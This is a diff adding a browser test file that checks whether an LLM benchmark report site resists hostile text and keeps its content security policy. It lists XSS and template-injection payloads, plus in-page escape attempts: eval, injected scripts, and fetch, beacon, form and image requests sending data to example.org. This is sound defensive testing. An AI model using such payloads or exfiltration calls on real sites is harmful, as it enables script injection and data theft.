@@ -1,0 +1,135 @@
+"""Hostile texts (FAILURES 20) and attempts to break the policy, in a real browser."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+import reading_data
+
+from llmxray.report import build, single
+from llmxray.types import Item
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = (
+    "</script><script>window.broken = 1</script>",
+    "<img src=x onerror='window.broken = 2'>",
+    "[click](javascript:window.broken=3) <a href='javascript:window.broken=3'>click</a>",
+    "{{7*7}} ${7*7} {% for x in y %}",
+    "\u202ereversed\u202c \x1b[31mred\x1b[0m \ud800 \u2028 \u2029 '\\\" --> ]]>",
+    "<svg onload='window.broken = 4'><style>body{display:none}</style>",
+    "'><iframe srcdoc='<script>parent.broken=5</script>'>",
+)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Questions, options, answers and tokens that try; the site and the single file of them."""
+    folder = tmp_path_factory.mktemp("hostile")
+    items = [
+        Item(f"q{n}", text, (f"{text} one", f"{text} two"), "AB"[n % 2], text, difficulty=1, why=text)
+        for n, text in enumerate(HOSTILE)
+    ]
+
+    def tell(trial: Any, _: int) -> Any:
+        text = HOSTILE[int(trial.item[1:])].replace("\ud800", "")
+        return [("A", 0.6, [("A", 0.6), (text, 0.3)]), *reading_data.words(f"\n{text}")]
+
+    data = reading_data.benchmark(folder / "cassette", tell, items)
+    build([data], folder / "site")
+    single([data], folder)
+    return folder
+
+
+def _seen(page: Any) -> str:
+    text: str = page.inner_text("body")
+    return text
+
+
+def test_hostile_texts_are_shown_and_do_nothing(hostile: Path, plain_page: Any) -> None:
+    """Every page and every question, from disk: no error, nothing ran, no element of theirs."""
+    page = plain_page
+    addresses = [path.as_uri() for path in sorted((hostile / "site/tiny").glob("*.html"))]
+    addresses += [
+        f"{(hostile / 'site/tiny/question.html').as_uri()}?q=tiny/things/q{n}" for n in range(len(HOSTILE))
+    ]
+    for address in addresses:
+        page.goto(address)
+        page.wait_for_timeout(50)
+        assert (address, page.faults) == (address, [])
+        assert page.evaluate(
+            "[typeof window.broken, document.querySelectorAll('iframe, main img, main style').length]"
+        ) == [
+            "undefined",
+            0,
+        ]
+    assert "srcdoc" in _seen(page)
+    assert "javascript:window.broken" not in [
+        link.get_attribute("href") for link in page.query_selector_all("a[href]")
+    ]
+
+
+def test_hostile_texts_do_nothing_in_a_single_file(hostile: Path, plain_page: Any) -> None:
+    """The same texts between inline scripts."""
+    page = plain_page
+    page.goto((hostile / "tiny.html").as_uri() + "?q=tiny/things/q0")
+    page.wait_for_selector(".tokens .t")
+    assert page.faults == []
+    assert page.evaluate("typeof window.broken") == "undefined"
+    assert "{{7*7}}" in _seen(page)
+
+
+BREAKS = {
+    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.broken = 1'; document.head.append(s)",
+    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.broken = 1\">')",
+    "eval": "try { eval('window.broken = 1') } catch {}",
+    "a function from text": "try { Function('window.broken = 1')() } catch {}",
+    "a javascript link": "const a = document.createElement('a'); a.href = 'javascript:window.broken=1'; document.body.append(a); a.click()",
+    "a data script": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.broken=1'; document.head.append(s)",
+    "a foreign script": "const s = document.createElement('script'); s.src = 'https://example.org/x.js'; document.head.append(s)",
+    "a frame": "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.broken = 1</' + 'script>'; document.body.append(f)",
+    "a style": "const s = document.createElement('style'); s.textContent = 'body { --broken: 1 }'; document.head.append(s)",
+    "a picture from elsewhere": "const i = new Image(); i.src = 'https://example.org/secret.png'; document.body.append(i)",
+    "fetch": "fetch('https://example.org/').then(() => { window.broken = 1 }, () => {})",
+    "a beacon": "navigator.sendBeacon('https://example.org/', 'secret')",
+    "a form": "const f = document.createElement('form'); f.action = 'https://example.org/'; document.body.append(f); f.submit()",
+    "another base": "const b = document.createElement('base'); b.href = 'https://example.org/'; document.head.append(b)",
+}
+
+
+@pytest.mark.parametrize("where", ["site/tiny/questions.html", "tiny.html"])
+@pytest.mark.parametrize("name", BREAKS)
+def test_the_policy_holds_against_a_script_that_got_in(
+    hostile: Path, chromium: Any, where: str, name: str
+) -> None:
+    """Even with code running in the page, nothing inline runs and nothing leaves it."""
+    context = chromium.new_context()
+    page = context.new_page()
+    left: list[str] = []
+    page.on("response", lambda reply: left.append(reply.url) if reply.url.startswith("http") else None)
+    page.on(
+        "requestfailed",
+        lambda asked: (
+            left.append(asked.url) if asked.failure != "csp" and asked.url.startswith("http") else None
+        ),
+    )
+    page.goto((hostile / where).as_uri())
+    page.evaluate(
+        "window.stopped = []; document.addEventListener('securitypolicyviolation', "
+        "(event) => window.stopped.push(event.effectiveDirective))"
+    )
+    # In a timer: what the debugger itself evaluates is let off the policy.
+    page.evaluate(f"() => {{ setTimeout(() => {{ {BREAKS[name]} }}, 0) }}")
+    page.wait_for_timeout(60)
+    state = page.evaluate(
+        "[typeof window.broken, getComputedStyle(document.body).getPropertyValue('--broken'), document.baseURI, "
+        "window.stopped.length]"
+    )
+    context.close()
+    assert state[:2] == ["undefined", ""]
+    assert state[2].startswith("file:")
+    # A frame made of text takes the policy over, and its own document reports what was stopped.
+    assert state[3] > 0 or name == "a frame", "the policy has not said that it stopped this"
+    assert left == []
